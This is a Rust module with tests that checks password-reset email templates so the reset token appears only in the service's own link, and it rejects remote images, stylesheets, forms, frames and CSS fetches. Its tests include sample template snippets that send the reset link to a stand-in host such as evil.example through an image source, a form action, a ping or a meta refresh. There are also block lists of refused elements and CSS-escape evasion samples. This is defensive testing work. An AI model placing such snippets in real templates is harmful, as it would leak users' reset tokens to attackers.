//! Where a token may go: only into the links the service built.
//!
//! The link lint ([`super::lint`]) proves the real link is present. This
//! module proves it goes nowhere else: an operator's template that writes
//! `<img src="https://evil.example/p?{{ link }}">`, a query of another
//! link, a stylesheet URL, or the token in plain text would hand every
//! user's reset link to whoever reads that URL or text.
//!
//! Every email is rendered twice with the same accounts and different
//! tokens. Whatever differs between the two renderings depends on the
//! token — the link itself, or any value a template derives from it
//! (`{{ link|urlencode }}`, `{{ link[30:] }}`, `{% if link[40] < 'M' %}`).
//! After each allowed occurrence is replaced by a placeholder (the `href`
//! of an `<a>` or a text node that is exactly one of the email's links; in
//! the text part, a line holding only a link), the two renderings must be
//! identical. The first place where they differ is named in the error.
//!
//! Remote resources (images, stylesheets, fonts, frames: anything an email
//! client fetches by itself) are refused as well: they are tracking beacons
//! at best, and a channel out at worst. `data:` and `cid:` URLs are inline.

use scraper::Html;
use scraper::node::Node;

use crate::mail::MailContent;

/// A rendering of one email, cut into the places a token could hide.
struct Places {
    /// `(where, what)`: a human description of the place and its content.
    items: Vec<(String, String)>,
}

/// Attributes whose URL a mail client fetches without a click.
const FETCHED_ATTRIBUTES: &[&str] = &[
    "src",
    "srcset",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "data",
    "xlink:href",
    "imagesrcset",
];

/// Elements a mail client fetches through their `href` (names compared in
/// lower case: html5ever keeps SVG's camel case).
const FETCHED_BY_HREF: &[&str] = &["link", "image", "use", "feimage"];

/// Elements a reset email may not contain: forms (one click posts what
/// they hold anywhere), frames, plugins, scripts, `<base>` / `<meta>`
/// (redirects), SVG and MathML (their own URL attributes), and elements
/// whose content mail clients parse differently from the lint (`<noscript>`
/// is markup with scripting off, raw text with it on).
const REFUSED_ELEMENTS: &[&str] = &[
    "noscript",
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "textarea",
    "select",
    "option",
    "button",
    "base",
    "meta",
    "svg",
    "math",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "portal",
    "video",
    "audio",
];

/// Attributes that send a URL or load a document by themselves.
const REFUSED_ATTRIBUTES: &[&str] = &["srcdoc", "ping", "formaction", "action", "http-equiv"];

/// Checks that the token of `a` (rendered with links `links_a`) appears in
/// no other place than those links, by comparing with `b`, the same email
/// rendered with other tokens (links `links_b`). Returns `(part, reason)`.
#[cfg(test)]
fn check_confined(
    a: &MailContent,
    b: &MailContent,
    links_a: &[&str],
    links_b: &[&str],
    link_page: &str,
) -> Result<(), (&'static str, String)> {
    confined_subject_and_text(a, b, links_a, links_b, link_page)?;
    confined_html(
        &Html::parse_document(&a.html),
        &b.html,
        links_a,
        links_b,
        link_page,
    )
}

/// Both checks on one email rendered twice (see the module docs): no
/// remote resources, and the token only in its links. Returns `(part, reason)`.
/// `a`'s HTML is parsed once for both (this runs on every reset email).
pub(super) fn check_rendered(
    a: &MailContent,
    b: &MailContent,
    links_a: &[&str],
    links_b: &[&str],
    link_page: &str,
) -> Result<(), (&'static str, String)> {
    let doc_a = Html::parse_document(&a.html);
    remote_resources(&doc_a).map_err(|reason| ("html", reason))?;
    confined_subject_and_text(a, b, links_a, links_b, link_page)?;
    confined_html(&doc_a, &b.html, links_a, links_b, link_page)
}

fn confined_subject_and_text(
    a: &MailContent,
    b: &MailContent,
    links_a: &[&str],
    links_b: &[&str],
    link_page: &str,
) -> Result<(), (&'static str, String)> {
    if a.subject != b.subject {
        return Err((
            "subject",
            "must not depend on the link or its token (a subject is shown in lists and previews)".into(),
        ));
    }
    if let Some(line) = first_difference(&text_places(&a.text, links_a), &text_places(&b.text, links_b)) {
        return Err((
            "text",
            format!(
                "uses the link's token outside a line holding only the link ({line}); \
                 the token may appear only in the link to {link_page}"
            ),
        ));
    }
    Ok(())
}

fn confined_html(
    doc_a: &Html,
    b_html: &str,
    links_a: &[&str],
    links_b: &[&str],
    link_page: &str,
) -> Result<(), (&'static str, String)> {
    let places_b = html_places(&Html::parse_document(b_html), links_b);
    if let Some(place) = first_difference(&html_places(doc_a, links_a), &places_b) {
        return Err((
            "html",
            format!(
                "uses the link's token outside the link ({place}); the token may appear only as the \
                 href of an <a> that is the link to {link_page}, or as the link's own text"
            ),
        ));
    }
    Ok(())
}

/// The reset page a token may be carried to, for messages: origin and path.
pub(crate) fn link_page(links: &crate::link::LinkBuilder) -> String {
    let target = links.target();
    format!("{}{}", target.origin().ascii_serialization(), target.path())
}

/// Refuses remote resources in an HTML body: what a mail client would
/// fetch by itself (images, stylesheets, fonts, frames, scripts).
#[cfg(test)]
fn check_no_remote_resources(html: &str) -> Result<(), String> {
    remote_resources(&Html::parse_document(html))
}

fn remote_resources(document: &Html) -> Result<(), String> {
    for node in document.tree.root().descendants() {
        match node.value() {
            Node::Element(el) => {
                let name = el.name().to_ascii_lowercase();
                let name = name.as_str();
                if REFUSED_ELEMENTS.contains(&name) {
                    return Err(format!(
                        "uses a <{name}>; reset emails may not contain forms, frames, scripts, \
                         plugins, <base>, <meta>, SVG or <noscript>"
                    ));
                }
                for (attr, value) in el.attrs() {
                    let attr_lower = attr.to_ascii_lowercase();
                    if REFUSED_ATTRIBUTES.contains(&attr_lower.as_str()) {
                        return Err(format!(
                            "uses the `{attr}` attribute (on a <{name}>), which sends or loads a URL \
                             by itself; reset emails may not"
                        ));
                    }
                    let fetched = FETCHED_ATTRIBUTES.contains(&attr)
                        || (attr == "href" && FETCHED_BY_HREF.contains(&name));
                    if fetched && is_remote(attr, value) {
                        return Err(format!(
                            "loads a remote resource (the `{attr}` of a <{name}>: {}); reset emails \
                             may not load images, fonts or stylesheets from the network \
                             (use `data:` or `cid:` for an inline image)",
                            describe_url(value)
                        ));
                    }
                    if attr == "style" && css_fetches(value) {
                        return Err(format!(
                            "loads a remote resource (a `url(...)` or `@import` in the `style` of a \
                             <{name}>); reset emails may not load anything from the network"
                        ));
                    }
                }
            }
            Node::Comment(comment) => {
                let text = comment.trim_start();
                if text.starts_with("[if") || text.starts_with("[endif") || text.starts_with("<![endif") {
                    return Err(
                        "uses a conditional comment (`<!--[if …]>`), whose content some mail \
                                clients show as markup; reset emails may not"
                            .into(),
                    );
                }
            }
            Node::Text(text) => {
                let in_style = node
                    .parent()
                    .and_then(|p| p.value().as_element().map(|e| e.name() == "style"))
                    .unwrap_or(false);
                if in_style && css_fetches(text) {
                    return Err(
                        "loads a remote resource (a `url(...)` or `@import` in a <style>); \
                                reset emails may not load anything from the network"
                            .into(),
                    );
                }
            }
            _ => {}
        }
    }
    Ok(())
}

/// Whether a fetched URL leaves the message: anything but empty, `data:`,
/// `cid:` and a fragment. A `srcset` is a list of `URL descriptor` pairs.
fn is_remote(attr: &str, value: &str) -> bool {
    let inline = |url: &str| {
        let lower = url.to_ascii_lowercase();
        url.is_empty() || lower.starts_with("data:") || lower.starts_with("cid:") || lower.starts_with('#')
    };
    if attr.ends_with("srcset") {
        value
            .split_whitespace()
            .map(|w| w.trim_end_matches(','))
            .filter(|w| !is_srcset_descriptor(w))
            .any(|url| !inline(url))
    } else {
        !inline(value.trim())
    }
}

/// `2x`, `1.5x`, `640w`: the width or density after a `srcset` URL.
fn is_srcset_descriptor(word: &str) -> bool {
    word.strip_suffix(['x', 'w'])
        .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit() || c == '.'))
}

/// Whether CSS fetches something: `@import`, or a `url(...)` that is not
/// `data:` / `cid:` / a fragment.
fn css_fetches(css: &str) -> bool {
    let compact: String = css_unescape(&strip_css_comments(css))
        .chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(char::to_lowercase)
        .collect();
    if compact.contains("@import") {
        return true;
    }
    compact.match_indices("url(").any(|(i, m)| {
        let rest = compact[i + m.len()..].trim_start_matches(['"', '\'']);
        !(rest.starts_with("data:") || rest.starts_with("cid:") || rest.starts_with('#'))
    }) || compact.contains("image-set(")
}

/// CSS without its `/* comments */`.
fn strip_css_comments(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut rest = css;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        rest = rest[start + 2..]
            .find("*/")
            .map_or("", |end| &rest[start + 2 + end + 2..]);
    }
    out.push_str(rest);
    out
}

/// CSS with its escapes decoded: `\75 rl(` is `url(`, `\@` is `@`.
fn css_unescape(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut chars = css.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let mut hex = String::new();
        while hex.len() < 6 && chars.peek().is_some_and(char::is_ascii_hexdigit) {
            hex.extend(chars.next());
        }
        if hex.is_empty() {
            out.extend(chars.next());
        } else {
            if chars.peek().is_some_and(|c| c.is_whitespace()) {
                chars.next();
            }
            let code = u32::from_str_radix(&hex, 16).unwrap_or(0xFFFD);
            out.push(char::from_u32(code).unwrap_or('\u{FFFD}'));
        }
    }
    out
}

/// Names a URL by its origin, never by its query (which may hold a token).
fn describe_url(value: &str) -> String {
    match url::Url::parse(value.trim()) {
        Ok(url) if url.has_host() => url.origin().ascii_serialization(),
        Ok(url) => format!("a `{}:` URL", url.scheme()),
        Err(_) => "a relative URL".into(),
    }
}

fn text_places(text: &str, links: &[&str]) -> Places {
    let items = text
        .lines()
        .enumerate()
        .map(|(i, line)| {
            let content = match links.iter().position(|l| line.trim() == *l) {
                Some(k) => format!("\u{0}link{k}"),
                None => line.to_owned(),
            };
            (format!("line {}", i + 1), content)
        })
        .collect();
    Places { items }
}

fn html_places(document: &Html, links: &[&str]) -> Places {
    let allowed = |value: &str| links.iter().position(|l| value.trim() == *l);
    let mut items = Vec::new();
    for node in document.tree.root().descendants() {
        match node.value() {
            Node::Element(el) => {
                let name = el.name();
                items.push(("an element's name".to_owned(), name.to_owned()));
                let mut attrs: Vec<(&str, &str)> = el.attrs().collect();
                attrs.sort_unstable();
                for (attr, value) in attrs {
                    let content = match allowed(value) {
                        Some(k) if name == "a" && attr == "href" => format!("\u{0}link{k}"),
                        _ => value.to_owned(),
                    };
                    let place = if attr == "href" || FETCHED_ATTRIBUTES.contains(&attr) {
                        format!("the `{attr}` of a <{name}> pointing at {}", describe_url(value))
                    } else {
                        format!("the `{attr}` attribute of a <{name}>")
                    };
                    items.push((place, content));
                }
            }
            Node::Text(text) => {
                let parent = node
                    .parent()
                    .and_then(|p| p.value().as_element().map(|e| e.name().to_owned()))
                    .unwrap_or_else(|| "document".into());
                // The link's own text, inside the <a> it is the href of.
                let own_anchor = node
                    .ancestors()
                    .filter_map(|a| a.value().as_element())
                    .find(|e| e.name() == "a")
                    .and_then(|a| a.attr("href"))
                    .is_some_and(|href| href.trim() == text.trim());
                let content = match allowed(text) {
                    Some(k) if own_anchor => format!("\u{0}link{k}"),
                    _ => text.to_string(),
                };
                items.push((format!("the text of a <{parent}>"), content));
            }
            Node::Comment(c) => items.push(("an HTML comment".into(), c.to_string())),
            Node::Doctype(d) => items.push(("the doctype".into(), format!("{d:?}"))),
            Node::ProcessingInstruction(p) => {
                items.push(("a processing instruction".into(), format!("{p:?}")));
            }
            _ => {}
        }
    }
    Places { items }
}

/// The place of the first difference between two renderings, if any.
fn first_difference(a: &Places, b: &Places) -> Option<String> {
    for (x, y) in a.items.iter().zip(&b.items) {
        if x.1 != y.1 {
            return Some(x.0.clone());
        }
    }
    if a.items.len() != b.items.len() {
        let shorter = a.items.len().min(b.items.len());
        let place = a
            .items
            .get(shorter)
            .or_else(|| b.items.get(shorter))
            .map(|p| p.0.clone())
            .unwrap_or_default();
        return Some(format!("the structure changes with the token, at {place}"));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const LA: &str = "https://a.example/reset?token=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    const LB: &str = "https://a.example/reset?token=BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB";

    fn mail(html: &str, link: &str) -> MailContent {
        MailContent {
            subject: "Reset".into(),
            text: format!("Open:\n\n{link}\n"),
            html: html.replace("LINK", link),
        }
    }

    fn check(html: &str) -> Result<(), (&'static str, String)> {
        check_confined(
            &mail(html, LA),
            &mail(html, LB),
            &[LA],
            &[LB],
            "https://a.example/reset",
        )
    }

    #[test]
    fn the_link_as_href_or_as_its_own_text_is_allowed() {
        check("<p><a href=\"LINK\">Reset</a></p>").unwrap();
        check("<p><a href=\"LINK\">LINK</a></p>").unwrap();
        check("<p><a href=\"LINK\">Reset</a> <a href=\"https://a.example/help\">help</a></p>").unwrap();
    }

    #[test]
    fn the_token_anywhere_else_is_refused_naming_the_place() {
        for (html, place) in [
            (
                "<img src=\"https://evil.example/p?LINK\">",
                "`src` of a <img> pointing at https://evil.example",
            ),
            (
                "<a href=\"https://evil.example/p?LINK\">x</a>",
                "`href` of a <a> pointing at https://evil.example",
            ),
            ("<a href=\"LINK&next=1\">x</a>", "`href` of a <a>"),
            ("<p>Your link: LINK</p>", "text of a <p>"),
            ("<!-- LINK -->", "an HTML comment"),
            ("<p title=\"LINK\">x</p>", "`title` attribute of a <p>"),
            // The link's exact text outside its own <a> (a form field a
            // button posts elsewhere, a list option, a plain paragraph).
            ("<p>LINK</p>", "text of a <p>"),
            ("<div><i>LINK</i></div>", "text of a <i>"),
        ] {
            let (part, reason) = check(&format!("<a href=\"LINK\">Reset</a>{html}")).unwrap_err();
            assert_eq!(part, "html");
            assert!(reason.contains(place), "{html}: {reason}");
            assert!(
                !reason.contains("AAAA"),
                "the reason must not print the token: {reason}"
            );
        }
    }

    #[test]
    fn the_text_part_allows_the_link_only_alone_on_its_line() {
        let a = MailContent {
            subject: "s".into(),
            text: format!("Open {LA} now\n"),
            html: String::new(),
        };
        let b = MailContent {
            text: format!("Open {LB} now\n"),
            ..a.clone()
        };
        let (part, reason) = check_confined(&a, &b, &[LA], &[LB], "x").unwrap_err();
        assert_eq!(part, "text");
        assert!(reason.contains("line 1"), "{reason}");
    }

    #[test]
    fn remote_resources_are_refused() {
        for html in [
            "<img src=\"https://cdn.example/logo.png\" alt=logo>",
            "<img src=\"//cdn.example/logo.png\">",
            "<img srcset=\"data:image/png;base64,AA 1x, https://t.example/p 2x\">",
            "<link rel=stylesheet href=\"https://cdn.example/a.css\">",
            "<table background=\"http://t.example/bg.gif\"></table>",
            "<p style=\"background: url( 'https://t.example/b.png' )\">x</p>",
            "<style>@import 'https://fonts.example/f.css';</style>",
            "<style>p { background: URL(https://t.example/b) }</style>",
            // CSS escapes and comments.
            "<p style=\"background:\\75rl(https://t.example/b.gif)\">x</p>",
            "<style>@\\69mport 'https://t.example/f.css';</style>",
            "<style>@imp/**/ort 'https://t.example/f.css';</style>",
            // Outlook's conditional comments, srcdoc, SVG, noscript, forms, ping.
            "<!--[if mso]><img src=\"https://t.example/p.gif\"><![endif]-->",
            "<iframe srcdoc=\"<img src=https://t.example/b.gif>\"></iframe>",
            "<svg><filter><feImage href=\"https://t.example/x\"/></filter></svg>",
            "<noscript><img src=\"https://t.example/p.gif\"></noscript>",
            "<form action=\"https://evil.example/c\"><textarea name=l>x</textarea><button>Go</button></form>",
            "<a href=\"https://a.example/reset\" ping=\"https://evil.example/p\">x</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        ] {
            assert!(check_no_remote_resources(html).is_err(), "{html}");
        }
        for html in [
            "<img src=\"data:image/png;base64,AAAA\" alt=x>",
            "<img src=\"cid:logo@site\" alt=x>",
            "<p style=\"color: red\">x</p>",
            "<a href=\"https://a.example/help\">help</a>",
        ] {
            check_no_remote_resources(html).unwrap();
        }
    }
}
